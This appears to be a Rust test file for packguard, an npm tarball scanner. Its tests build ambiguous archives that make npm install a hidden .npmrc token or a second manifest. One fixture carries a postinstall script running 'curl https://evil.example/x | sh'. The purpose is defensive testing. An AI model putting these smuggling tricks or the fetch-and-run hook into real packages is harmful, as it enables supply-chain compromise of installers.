//! The archive as npm's extractor reads it (issue 17): each tarball here installs a
//! `.npmrc` with a token, or a second manifest, under a real `npm install` (npm 11, node-tar
//! 7), through a structure a strict tar reader reads differently. packguard must see what
//! npm installs, and say that the archive is ambiguous.

mod support;

use packguard::artifact::builder::{gzip, TarBuilder};
use support::*;

const NPMRC: &str = "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\n";

/// A clean package, then whatever `hostile` appends, then the end marker.
fn with(hostile: impl FnOnce(TarBuilder) -> TarBuilder) -> Vec<u8> {
    hostile(package("p", "1.0.0")).tgz()
}

/// The scan must report the installed `.npmrc` and the reader disagreement.
fn assert_sees_npmrc(tgz: &[u8]) {
    let s = Scratch::new();
    let (code, r) = s.scan_json(tgz, &[]);
    assert_eq!(code, 1, "{r:#}");
    assert!(
        findings(&r)
            .iter()
            .any(|(rule, file, _)| rule == "file/npmrc" && file.ends_with(".npmrc")),
        "the .npmrc npm installs is not reported: {r:#}"
    );
    assert!(
        !of_rule(&r, "archive/reader-disagreement").is_empty(),
        "no archive/reader-disagreement: {r:#}"
    );
}

#[test]
fn a_lone_zero_block_does_not_end_the_archive() {
    assert_sees_npmrc(&with(|b| b.zero_block().file(".npmrc", NPMRC)));
}

#[test]
fn two_zero_blocks_do_end_it() {
    let s = Scratch::new();
    let tgz = with(|b| b.zero_block().zero_block().file(".npmrc", NPMRC));
    let (code, r) = s.scan_json(&tgz, &[]);
    assert_eq!(
        code, 0,
        "npm stops at two zero blocks and installs no .npmrc: {r:#}"
    );
}

#[test]
fn a_directory_body_is_read_as_entries() {
    let inner = TarBuilder::new().file(".npmrc", NPMRC);
    assert_sees_npmrc(&with(|b| b.dir_with_body("package/docs/", &inner)));
}

#[test]
fn a_file_named_with_a_trailing_slash_is_a_directory_and_its_body_entries() {
    let inner = TarBuilder::new().file(".npmrc", NPMRC);
    let body = {
        let mut t = inner.tar();
        t.truncate(t.len() - 1024);
        t
    };
    assert_sees_npmrc(&with(|b| {
        b.file_sized("package/docs/", body.len() as u64, &body)
    }));
}

#[test]
fn the_last_pax_path_wins() {
    assert_sees_npmrc(&with(|b| {
        b.pax(&[("path", "package/README.md"), ("path", "package/.npmrc")])
            .file("README.md", NPMRC)
    }));
}

#[test]
fn a_pax_path_after_a_gnu_long_name_wins() {
    assert_sees_npmrc(&with(|b| {
        b.gnu_long_name("package/README.md")
            .pax(&[("path", "package/.npmrc")])
            .file("README.md", NPMRC)
    }));
}

#[test]
fn the_last_pax_size_wins() {
    assert_sees_npmrc(&with(|b| {
        b.pax(&[("size", "0"), ("size", &NPMRC.len().to_string())])
            .file_sized("package/.npmrc", 0, NPMRC)
    }));
}

#[test]
fn the_last_package_json_is_the_manifest() {
    let s = Scratch::new();
    let evil = r#"{"name":"p","version":"1.0.0","main":"index.js","repository":"github:example/p","scripts":{"postinstall":"curl https://evil.example/x | sh"}}"#;
    for first in ["package/package.json", "foo/package.json"] {
        let tgz = TarBuilder::new()
            .raw_file(first.as_bytes(), r#"{"name":"p","version":"1.0.0","main":"index.js","repository":"github:example/p"}"#)
            .file("index.js", "module.exports = 42;\n")
            .file("package.json", evil)
            .tgz();
        let (code, r) = s.scan_json(&tgz, &[]);
        assert_eq!(code, 1, "{first}: {r:#}");
        assert!(
            findings(&r)
                .iter()
                .any(|(rule, _, _)| rule.starts_with("manifest/install-script")),
            "{first}: the installed manifest's postinstall is not judged: {r:#}"
        );
        let dup = of_rule(&r, "archive/duplicate-manifest");
        assert_eq!(dup.len(), 1, "{first}: {r:#}");
        assert_eq!(dup[0]["severity"], "error");
    }
}

#[test]
fn copies_that_differ_are_an_error_and_copies_that_match_are_not() {
    let s = Scratch::new();
    let tgz = with(|b| b.raw_file(b"other/index.js", "evil()"));
    let (_, r) = s.scan_json(&tgz, &[]);
    assert_eq!(of_rule(&r, "archive/duplicate-differs").len(), 1, "{r:#}");
    let tgz = with(|b| b.file("index.js", "module.exports = 42;\n"));
    let (_, r) = s.scan_json(&tgz, &[]);
    assert!(of_rule(&r, "archive/duplicate-differs").is_empty(), "{r:#}");
    assert_eq!(of_rule(&r, "file/duplicate-entry").len(), 1, "{r:#}");
}

#[test]
fn the_first_component_is_stripped_whatever_it_is() {
    let s = Scratch::new();
    let tgz = with(|b| b.raw_file(b"foo/.npmrc", NPMRC));
    let (_, r) = s.scan_json(&tgz, &[]);
    assert!(has(&r, "file/npmrc", "foo/.npmrc"), "{r:#}");
}

#[test]
fn zero_padding_after_the_gzip_stream_is_read() {
    let s = Scratch::new();
    let mut tgz = package("p", "1.0.0").file(".npmrc", NPMRC).tgz();
    tgz.extend_from_slice(&[0u8; 4096]);
    // `file/npmrc` is a warning: with --fail-on warning the shipped .npmrc fails the run.
    let (code, r) = s.scan_json(&tgz, &["--fail-on", "warning"]);
    assert_eq!(code, 1, "{r:#}");
    assert!(has(&r, "file/npmrc", "package/.npmrc"), "{r:#}");
    // A second member is read too; junk that is not zero padding is still an error.
    let mut two = package("p", "1.0.0").tar();
    two.truncate(two.len() - 1024);
    let mut tgz = gzip(&two);
    tgz.extend(gzip(&TarBuilder::new().file(".npmrc", NPMRC).tar()));
    tgz.extend_from_slice(&[0u8; 100]);
    let (code, r) = s.scan_json(&tgz, &["--fail-on", "warning"]);
    assert_eq!(code, 1, "{r:#}");
    assert!(has(&r, "file/npmrc", "package/.npmrc"), "{r:#}");
}

#[test]
fn a_huge_declared_size_is_an_exit_2_not_an_abort() {
    let s = Scratch::new();
    // 40 GiB declared, limits raised past it: the reader must not allocate from the header.
    let tgz = gzip(
        &TarBuilder::new()
            .file_sized("package/big.bin", 40 << 30, "x")
            .tar(),
    );
    let f = s.write("big.tgz", &tgz);
    let out = s
        .cmd()
        .arg("scan")
        .arg(&f)
        .args([
            "--max-file-size",
            "100000000000",
            "--max-total-size",
            "100000000000",
        ])
        .output()
        .expect("run packguard");
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("big.tgz"));
}
